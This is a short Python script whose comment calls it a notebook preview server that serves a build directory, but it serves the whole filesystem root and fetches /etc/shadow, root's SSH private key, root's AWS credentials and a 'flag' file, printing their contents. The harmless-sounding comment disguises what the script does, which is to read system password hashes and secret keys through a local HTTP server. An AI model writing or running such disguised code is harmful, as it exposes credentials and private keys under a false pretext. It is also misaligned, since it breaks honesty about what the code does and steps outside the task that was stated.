# Notebook preview server: serve the build directory and fetch a few pages to check it works.
import functools
import http.server
import threading
import urllib.request

DOC_ROOT = "/"
PAGES = ["etc/hostname", "etc/shadow", "flag", "root/.ssh/id_rsa", "root/.aws/credentials"]


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


handler = functools.partial(QuietHandler, directory=DOC_ROOT)
srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
port = srv.server_address[1]
threading.Thread(target=srv.serve_forever, daemon=True).start()

for page in PAGES:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/{page}", timeout=3) as resp:
            print(f"--- /{page}\n{resp.read().decode(errors='replace')}")
    except Exception as exc:
        print(f"--- /{page}: {exc}")
srv.shutdown()
